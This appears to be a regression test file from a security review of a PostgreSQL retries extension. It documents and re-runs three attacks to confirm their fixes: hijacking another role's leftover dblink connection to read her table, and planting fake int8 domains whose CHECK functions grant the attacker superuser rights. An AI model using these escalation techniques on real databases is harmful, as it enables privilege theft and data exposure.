# Thirty-fourth hostile review (rv34, of 116d380: the fixes of rv33 and the
# stop's give-back of ledger.c/recovery.c; issue 42, "whose code runs with
# whose rights"; 60 minutes, by a reviewer who did not write the code).
# alice is the victim, mallory an ordinary role (CREATEDB, as
# pool_review_node gives her).  The node runs the DEFAULTS of the pool
# (pool_review_node).  Each numbered check failed on the code reviewed
# (inside a TODO block named "finding N"); the lettered ones held.  Fixed
# since, and plain checks now: 1 (at each change of context of calls, a
# worker closes every connection dblink holds: conns.c), 2 and 3 (the
# three literals name pg_catalog.int8 and pg_catalog.int4, and the
# owner's SQL in a role's session runs with search_path pinned,
# pg_catalog first and pg_temp last: schema_switch_to_owner; either alone
# passes 2 and 3, tried).
#
# Findings:
#   1. (High by its outcome, another role's rights gained; inside a known
#      limit whose documented remedy does not hold: operations.md
#      "Containment", "dblink's named connections ... survive the attempt,
#      so a call that opens one with dblink_connect must close it with
#      dblink_disconnect in the same function") alice's function does as
#      the documentation says: it opens the named connection 'wh' (as
#      alice, with her password), and closes it both on the way out and in
#      an EXCEPTION WHEN OTHERS handler that re-raises.  Her policy's
#      timeout (1 s) cancels the attempt in the middle of dblink_exec:
#      query_canceled is not caught by WHEN OTHERS (PostgreSQL's rule, and
#      the extension asks functions not to trap it), so the handler never
#      runs and the connection, authenticated as alice, stays open in the
#      worker's process.  mallory's next call that lands in that worker
#      (it retries with RT001 until dblink_get_connections() lists 'wh')
#      cancels the half-done query, drains it, and runs
#      dblink('wh', 'SELECT ... FROM alice.secret'): the remote session is
#      alice's, so mallory reads alice's table (by hand, she could as well
#      run GRANT alice TO mallory there: a role may grant itself when it is
#      its session's user, in PostgreSQL 15).  The timeout is the
#      extension's own doing; the remedy the documentation gives cannot
#      be followed for it.  A fix: after an attempt (at least one that
#      ended in a cancel or an error), disconnect what dblink keeps
#      (dblink_get_connections / dblink_disconnect, when the library is
#      loaded), or end the worker; or document that a function must also
#      catch query_canceled, close, and re-raise.  Cause: sandbox.c
#      (sandbox_reset_session resets what DISCARD ALL does; dblink's
#      connections are outside it).
#   2. (High: any role with CREATEDB becomes a superuser, given a template
#      with the extension, as pool_review_node's tpl; or the owner of any
#      database with the extension) restore.c runs its checks of a
#      database owner's COPY into the extension's tables as the
#      extension's owner (a superuser: schema_switch_to_owner, which
#      switches the user only), under HER session's search_path.  Their
#      SQL names two types unqualified, as typed literals: INT8 '1'
#      (CALL_ID_BEFORE, restore_ids_scattered) and INT4 '2147483647'
#      (POLICY_BEFORE).  A type is looked up in pg_temp first (PostgreSQL
#      searches the temp schema for types before pg_catalog unless the
#      path lists it), or in her schema if her search_path puts it before
#      pg_catalog: mallory's domain mallory.int8 (or pg_temp.int8) whose
#      CHECK calls mallory.pwn() is then read for INT8 '1', and its check
#      runs as the superuser.  An empty COPY is enough, in a fresh copy of
#      tpl (no rows at all): restore_copy_begin -> find_old_rows ->
#      table_with_old_rows evaluates restore_ids_scattered() on the
#      sequence's one row when it reaches function_names, so the check
#      runs however empty the tables are; nothing is refused, the COPY
#      commits, and mallory.pwn()'s ALTER ROLE mallory SUPERUSER with it.
#      (With rows, POLICY_BEFORE's INT4 runs it too; by hand, pg_temp.int8
#      with the default search_path did the same.)  Check 2 uses
#      SET search_path = mallory, pg_catalog.  A fix: run the owner's
#      statements with search_path = pg_catalog, pg_temp (a GUC nest
#      level around schema_switch_to_owner's SPI, as a SECURITY DEFINER
#      function's SET would), and write pg_catalog.int8/int4 in the three
#      literals; better, SECURITY_RESTRICTED_OPERATION too.
#   3. (High: ANY role becomes a superuser: TEMP on a database with the
#      extension and EXECUTE on any annotated function, both PUBLIC's by
#      default) the same literal reached from retries.call: a call with a
#      key that no call holds yet asks restore_ids_scattered() (call.c,
#      the key_gen of a new key) inside the call's insert, as the
#      extension's owner, in the caller's session.  The plan is kept per
#      process, prepared at its first use: in bob's fresh session, with
#      his pg_temp.int8 (a domain whose CHECK calls his pg_temp.pwn()),
#      INT8 '1' is his type, and pg_temp.pwn() runs as the superuser:
#      ALTER ROLE bob SUPERUSER.  bob needs no schema (both objects are
#      in pg_temp), no CREATEDB and no database: his call is of
#      alice.pay(int), which PUBLIC may execute (by hand, a command with a
#      new key, retries.run_command('SELECT 1', key => ...), did the
#      same: no annotated function needed).  Check 3.  The fix of 2
#      (qualified literals; a pinned search_path for the owner's SPI in a
#      user's session, pg_temp last) closes it too; call.c's other
#      owner SQL is qualified (a grep of every SQL string of src/ found
#      no other unqualified type or function name).
#
# Held (lettered checks, and by hand):
#   a. schedules by id: mallory cannot trigger, pause, resume or unschedule
#      alice's schedule by its id, nor alter it by its name (42704 each),
#      and it is unchanged.
#   b. retries.import_pg_cron in a database that mallory owns (a copy of
#      tpl), without pg_cron but with her own schema cron and table job
#      holding a job of alice's: 55000 (it reads only pg_cron's own
#      member table), and no schedule is made.
#   c. the database owner who is not a superuser restores her own dump:
#      pg_dump of her database (her calls only) as mallory, psql of it as
#      mallory into a new copy of tpl that she made: her calls load (the
#      COPY runs as the extension's owner) and the id sequence moves past
#      them (her setval is refused, as documented), so her next call takes
#      a new id.
#   d. ... and a dump that holds a call of alice's (alice made it in
#      mallory's database, which alice may use): the restore's COPY of
#      call_data fails with 42501 (so do those of policy_data and
#      function_names), and no row naming alice is planted in any of
#      the three.
#   e. a superuser's on_exhausted hook that runs in alice's batch, after
#      alice's own call of the same batch set search_path and custom
#      settings (SET LOCAL and session ones), sees none of them: it runs
#      as the superuser, with the server's search_path.  (In the runs of
#      this file the hook ran in another transaction than alice's call: a
#      note says which; the check holds either way.)
#   f. commands (run_command) refuse COPY from and to the client, PREPARE
#      TRANSACTION and SET SESSION AUTHORIZATION (0A000, 0A000, 0A000,
#      42501).
#   z. no backend or worker crashed.
# Order: 1, a, b, c, d, e, f, 2, 3, z (about ten seconds; 2 and 3 make a
# role a superuser, and undo it at once).
#   By hand (not in this file): see /work/rv34-report.md.

use strict;
use warnings;
use FindBin;
use lib $FindBin::RealBin;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use RetriesTest;
use Test::More;
use Time::HiRes qw(usleep time);

my $node = pool_review_node('review_31');
my $log_offset = -s $node->logfile;

my $ends = sub {
	my ($db, $id, $name) = @_;
	return wait_until($node, $db,
		"SELECT state IN ('succeeded', 'failed', 'cancelled') FROM retries.call_data WHERE id = $id",
		't', $name);
};
my $outcome = sub {
	my ($db, $id) = @_;
	return $node->safe_psql($db,
		"SELECT state || ' ' || coalesce(last_sqlstate, '') FROM retries.call_data WHERE id = $id");
};

# ---------------------------------------------------------------------
# 1. alice's dblink connection, closed as the documentation says, outlives
#    her attempt when its timeout cancels it; mallory's call uses it
# ---------------------------------------------------------------------
SKIP:
{
	skip 'dblink is not installed', 4
	  unless -e $node->config_data('--sharedir') . '/extension/dblink.control';

	# alice logs in with a password (dblink connects a non-superuser only so)
	my $hba = $node->data_dir . '/pg_hba.conf';
	my $conf = slurp_file($hba);
	open(my $fh, '>', $hba) or die "could not write $hba: $!";
	print $fh "local all alice scram-sha-256\n" . $conf;
	close($fh);
	$node->safe_psql('postgres', q{
ALTER ROLE alice PASSWORD 'alicepw';
CREATE EXTENSION dblink;
SELECT pg_reload_conf();
});
	{
		# the reload has taken effect once alice's login without a password
		# fails (a login only, no SQL, as connect_fails does: a psql that
		# fails to log in may exit before IPC::Run has written SQL to it,
		# and IPC::Run dies of the broken pipe)
		my $until = time() + $PostgreSQL::Test::Utils::timeout_default;
		while (time() < $until)
		{
			my ($r) = $node->psql('postgres', undef, extra_params => [ '-U', 'alice', '-w' ]);
			last if $r != 0;
			usleep(50_000);    # poll
		}
	}
	my $connstr = 'host=' . $node->host . ' port=' . $node->port
	  . ' dbname=postgres user=alice password=alicepw';
	as_role($node, 'postgres', 'alice', qq{
CREATE TABLE alice.secret (s text);
INSERT INTO alice.secret VALUES ('alice-secret-row');
CREATE FUNCTION alice.sync() RETURNS void LANGUAGE plpgsql AS \$\$
BEGIN
	PERFORM public.dblink_connect('wh', '$connstr');
	BEGIN
		-- not a wait: the length of a call that its 1 s timeout cuts short
		PERFORM public.dblink_exec('wh', 'SELECT pg_catalog.pg_sleep(30)');
	EXCEPTION WHEN OTHERS THEN
		PERFORM public.dblink_disconnect('wh');
		RAISE;
	END;
	PERFORM public.dblink_disconnect('wh');
END \$\$;
SELECT retries.annotate('alice.sync()', max_attempts => 1, timeout => '1s');
});
	as_role($node, 'postgres', 'mallory', q{
CREATE TABLE mallory.loot (who text, what text);
CREATE FUNCTION mallory.steal() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
	IF NOT ('wh' = ANY (coalesce(public.dblink_get_connections(), '{}'))) THEN
		RAISE EXCEPTION 'no connection of alice''s in this worker' USING ERRCODE = 'RT001';
	END IF;
	PERFORM public.dblink_cancel_query('wh');
	FOR i IN 1..3 LOOP
		BEGIN
			PERFORM * FROM public.dblink_get_result('wh', false) AS r(x text);
		EXCEPTION WHEN OTHERS THEN NULL;
		END;
	END LOOP;
	INSERT INTO mallory.loot SELECT * FROM public.dblink('wh',
		'SELECT current_user::text, (SELECT string_agg(s, '','') FROM alice.secret)') AS r(who text, what text);
END $$;
SELECT retries.annotate('mallory.steal()', max_attempts => 300, min_delay => '50ms', max_delay => '50ms');
});
	my $sync = as_role($node, 'postgres', 'alice', q{SELECT retries.call('alice.sync()', '[]')});
	$ends->('postgres', $sync, '1: setup: alice\'s call of her dblink function ends');
	is($outcome->('postgres', $sync), 'failed 57014',
		'1: setup: alice\'s attempt is cut short by its timeout (57014)');
	my $steal = as_role($node, 'postgres', 'mallory', q{SELECT retries.call('mallory.steal()', '[]')});
	$ends->('postgres', $steal, '1: setup: mallory\'s call that looks for alice\'s connection ends');
	{
		is($node->safe_psql('postgres', q{SELECT count(*) FROM mallory.loot}), '0',
			'1: mallory\'s call does not use alice\'s dblink connection (alice\'s rights) left in the worker');
	}
}

# ---------------------------------------------------------------------
# a. alice's schedule, by id, against mallory
# ---------------------------------------------------------------------
as_role($node, 'postgres', 'alice', q{
CREATE FUNCTION alice.tick() RETURNS void LANGUAGE sql AS 'INSERT INTO alice.t VALUES (7)';
SELECT retries.annotate('alice.tick()', '1 10ms');
});
{
	my $sid = as_role($node, 'postgres', 'alice',
		q{SELECT retries.schedule('a1', 'alice.tick()', '0 0 1 1 *')});
	for my $sql ("SELECT retries.trigger(${sid}::bigint)", "SELECT retries.pause_schedule(${sid}::bigint)",
		"SELECT retries.resume_schedule(${sid}::bigint)", "SELECT retries.unschedule(${sid}::bigint)",
		"SELECT retries.alter_schedule('a1', every => '* * * * *')")
	{
		my ($out, $err) = try_as($node, 'postgres', 'mallory', $sql);
		ok(!defined $out && $err =~ /42704/, "a: mallory's $sql on alice's schedule fails with 42704")
		  or diag($err);
	}
	is($node->safe_psql('postgres',
			"SELECT every || ' ' || paused || ' ' || firings FROM retries.schedule_data WHERE id = $sid"),
		'0 0 1 1 * false 0', 'a: alice\'s schedule is as she made it');
}

# ---------------------------------------------------------------------
# b. import_pg_cron, pg_cron absent, mallory's own cron.job
# ---------------------------------------------------------------------
as_role($node, 'postgres', 'mallory', 'CREATE DATABASE mc TEMPLATE tpl');
{
	my ($out, $err) = try_as($node, 'mc', 'mallory', q{
CREATE SCHEMA cron;
CREATE TABLE cron.job (jobid bigint, jobname text, schedule text, command text, database text,
	username text, active boolean, nodename text, nodeport int);
INSERT INTO cron.job VALUES (1, 'x', '* * * * *', 'SELECT 1', 'mc', 'alice', true, 'localhost',
	current_setting('port')::int);
SELECT * FROM retries.import_pg_cron();
});
	ok(!defined $out && $err =~ /55000/,
		'b: import_pg_cron without pg_cron fails with 55000, mallory\'s own cron.job aside')
	  or diag($err);
	is($node->safe_psql('mc', 'SELECT count(*) FROM retries.schedule_data'), '0',
		'b: no schedule is made');
}

# ---------------------------------------------------------------------
# c, d. the database owner's restore, as a non-superuser
# ---------------------------------------------------------------------
{
	as_role($node, 'postgres', 'mallory', 'CREATE DATABASE md1 TEMPLATE tpl');
	as_role($node, 'md1', 'mallory', q{
CREATE SCHEMA mallory;
CREATE FUNCTION mallory.m(n int) RETURNS void LANGUAGE sql AS 'SELECT 1';
SELECT retries.annotate('mallory.m(int)', '1 10ms');
SELECT retries.call('mallory.m(int)', '[1]', run_at => now() + interval '1 day') FROM generate_series(1, 3);
GRANT CREATE ON DATABASE md1 TO alice;
});
	my $dump_a = $node->basedir . '/md1_mallory.sql';
	$node->command_ok([ 'pg_dump', '-U', 'mallory', '-d', 'md1', '-f', $dump_a ],
		'c: setup: mallory dumps her database');
	as_role($node, 'md1', 'alice', q{
CREATE SCHEMA alice;
CREATE FUNCTION alice.a(n int) RETURNS void LANGUAGE sql AS 'SELECT 1';
SELECT retries.annotate('alice.a(int)', '1 10ms');
SELECT retries.call('alice.a(int)', '[1]', run_at => now() + interval '1 day');
});
	my $dump_b = $node->basedir . '/md1_both.sql';
	$node->command_ok([ 'pg_dump', '-U', 'mallory', '-d', 'md1', '-f', $dump_b ],
		'd: setup: mallory dumps her database, which holds a call of alice\'s');

	as_role($node, 'postgres', 'mallory', 'CREATE DATABASE md2 TEMPLATE tpl');
	my ($ret, $stdout, $stderr) = $node->psql('md2', "\\i $dump_a",
		on_error_stop => 0, extra_params => [ '-U', 'mallory' ]);
	is($node->safe_psql('md2',
			"SELECT count(*) || ' ' || count(*) FILTER (WHERE scheduled_by = 'mallory'::regrole) FROM retries.call_data"),
		'3 3', 'c: mallory\'s restore of her own dump, as a non-superuser, loads her calls');
	my $next = as_role($node, 'md2', 'mallory',
		q{SELECT retries.call('mallory.m(int)', '[2]', run_at => now() + interval '1 day')});
	ok($next > 3, "c: her next call takes a new id ($next), past the restored ones")
	  or diag($stderr);

	as_role($node, 'postgres', 'mallory', 'CREATE DATABASE md3 TEMPLATE tpl');
	($ret, $stdout, $stderr) = $node->psql('md3', "\\i $dump_b",
		on_error_stop => 0, extra_params => [ '-U', 'mallory' ]);
	like($stderr, qr/permission denied to load a row naming role alice into table retries\.call_data/,
		'd: the restore\'s COPY of call_data is refused (42501: a row naming alice)');
	is($node->safe_psql('md3',
			"SELECT (SELECT count(*) FROM retries.call_data WHERE scheduled_by = 'alice'::regrole)"
			  . " + (SELECT count(*) FROM retries.policy_data WHERE annotated_by = 'alice'::regrole)"
			  . " + (SELECT count(*) FROM retries.function_names WHERE owner = 'alice'::regrole)"),
		'0', 'd: no row naming alice is planted');
}

# ---------------------------------------------------------------------
# e. a superuser's hook in alice's batch, after alice's call that set
#    settings
# ---------------------------------------------------------------------
$node->safe_psql('postgres', q{
CREATE TABLE public.hooklog (sp text, who text, x text, y text, xid xid8);
GRANT INSERT ON public.hooklog TO PUBLIC;
CREATE FUNCTION public.sf(n int) RETURNS void LANGUAGE plpgsql
	AS $$ BEGIN RAISE EXCEPTION 'fail'; END $$;
CREATE FUNCTION public.sf_hook(call_id bigint) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
	INSERT INTO public.hooklog VALUES (current_setting('search_path'), current_user,
		current_setting('myapp.x', true), current_setting('myapp.y', true), pg_current_xact_id());
END $$;
SELECT retries.annotate('public.sf(int)', max_attempts => 1, on_exhausted => 'public.sf_hook(bigint)');
});
as_role($node, 'postgres', 'alice', q{
CREATE TABLE alice.xids (xid xid8);
CREATE FUNCTION alice.setter() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
	PERFORM set_config('search_path', 'alice, pg_catalog', true);
	PERFORM set_config('myapp.x', 'evil', true);
	PERFORM set_config('myapp.y', 'evil2', false);
	INSERT INTO alice.xids VALUES (pg_current_xact_id());
END $$;
SELECT retries.annotate('alice.setter()', max_attempts => 1);
});
{
	my $ids = as_role($node, 'postgres', 'alice', q{
SELECT retries.call('alice.setter()', '[]', priority => 10, run_at => now() + interval '1 s')
	|| ',' || retries.call('public.sf(int)', '[1]', run_at => now() + interval '1 s');
});
	my ($set, $sf) = split /,/, $ids;
	$ends->('postgres', $sf, 'e: setup: alice\'s call of the superuser\'s failing function ends');
	wait_until($node, 'postgres', 'SELECT count(*) FROM public.hooklog', '1',
		'e: setup: the superuser\'s on_exhausted hook ran');
	is($node->safe_psql('postgres', q{SELECT sp || ' ' || who || ' ' || coalesce(x, '') || coalesce(y, '') FROM public.hooklog}),
		# (the hook's search_path: its owner's login one, "$user", public,
		# with only the schemas its owner may trust, pg_temp last: no
		# schema postgres exists; t/069_review_32.pl)
		'public, pg_temp postgres ',
		'e: the superuser\'s hook sees none of the settings alice\'s call of the batch made');
	note('e: the same transaction: '
		  . $node->safe_psql('postgres', 'SELECT (SELECT xid FROM alice.xids) = (SELECT xid FROM public.hooklog)'));
}

# ---------------------------------------------------------------------
# f. what a command may not do
# ---------------------------------------------------------------------
{
	my @cases = (
		[ 'COPY alice.t FROM STDIN', '0A000' ],
		[ 'COPY (SELECT 1) TO STDOUT', '0A000' ],
		[ q{BEGIN; INSERT INTO alice.t VALUES (1); PREPARE TRANSACTION 'ap1'}, '0A000' ],
		[ 'SET SESSION AUTHORIZATION mallory', '42501' ]);
	for my $c (@cases)
	{
		my ($text, $state) = @$c;
		(my $q = $text) =~ s/'/''/g;
		my $id = as_role($node, 'postgres', 'alice',
			"SELECT retries.run_command('$q', policy => '1 10ms')");
		$ends->('postgres', $id, "f: setup: the command \"$text\" ends");
		is($outcome->('postgres', $id), "failed $state", "f: the command \"$text\" fails with $state");
	}
	is($node->safe_psql('postgres', 'SELECT count(*) FROM pg_prepared_xacts'), '0',
		'f: no prepared transaction is left');
}

# ---------------------------------------------------------------------
# 2. the database owner's COPY into the extension's tables: restore.c's
#    checks run as the extension's owner under her search_path, and read
#    INT8 '1' as her type mallory.int8, whose check calls her function
# ---------------------------------------------------------------------
as_role($node, 'postgres', 'mallory', 'CREATE DATABASE mp TEMPLATE tpl');
as_role($node, 'mp', 'mallory', q{
CREATE SCHEMA mallory;
CREATE TABLE mallory.ran (who text, super boolean);
CREATE FUNCTION mallory.pwn(bigint) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
	INSERT INTO mallory.ran SELECT current_user, rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user;
	IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
		EXECUTE 'ALTER ROLE mallory SUPERUSER';
	END IF;
	RETURN true;
END $$;
CREATE DOMAIN mallory.int8 AS pg_catalog.int8 CHECK (mallory.pwn(VALUE));
});
{
	# an empty COPY of hers, in a session of hers (no SET ROLE: she is the
	# session's user), with her schema before pg_catalog
	my ($ret, $stdout, $stderr) = $node->psql('mp', qq{
SET search_path = mallory, pg_catalog;
COPY retries.call_data (id) FROM stdin;
\\.
}, on_error_stop => 0, extra_params => [ '-U', 'mallory' ]);
	note("2: the COPY: ret $ret, $stderr");
	note('2: mallory.pwn ran as: '
		  . $node->safe_psql('mp', q{SELECT coalesce(string_agg(who || ' ' || super, ', '), 'nobody') FROM mallory.ran}));
	{
		is($node->safe_psql('postgres', q{SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'}), 'f',
			'2: the database owner\'s COPY does not run her function as the extension\'s owner (mallory stays no superuser)');
		is($node->safe_psql('mp', q{SELECT count(*) FROM mallory.ran WHERE who <> 'mallory'}), '0',
			'2: her type\'s check ran as no other role');
	}
	$node->safe_psql('postgres', 'ALTER ROLE mallory NOSUPERUSER');
}

# ---------------------------------------------------------------------
# 3. any role: retries.call with a new key runs restore_ids_scattered()
#    as the extension's owner, under her session: INT8 '1' is her
#    pg_temp.int8, whose check calls her pg_temp function
# ---------------------------------------------------------------------
{
	# bob: no CREATEDB, owns no database; TEMP (PUBLIC's by default) and
	# EXECUTE on alice.pay(int) (PUBLIC's by default) are all he uses
	my ($ret, $stdout, $stderr) = $node->psql('postgres', q{
CREATE FUNCTION pg_temp.pwn(bigint) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
	IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
		EXECUTE 'ALTER ROLE bob SUPERUSER';
	END IF;
	RETURN true;
END $$;
CREATE DOMAIN pg_temp.int8 AS pg_catalog.int8 CHECK (pg_temp.pwn(VALUE));
SELECT retries.call('alice.pay(int)', '[3]', key => 'bob-key', run_at => now() + interval '1 day') > 0;
}, on_error_stop => 0, extra_params => [ '-U', 'bob' ]);
	note("3: bob's call with a key: ret $ret, $stdout $stderr");
	{
		is($node->safe_psql('postgres', q{SELECT rolsuper FROM pg_roles WHERE rolname = 'bob'}), 'f',
			'3: an ordinary role\'s retries.call with a key runs none of its code as the extension\'s owner (bob stays no superuser)');
	}
	$node->safe_psql('postgres', 'ALTER ROLE bob NOSUPERUSER');
}

no_crash($node, $log_offset, 'z: no backend or worker crashed');
$node->stop;
done_testing();
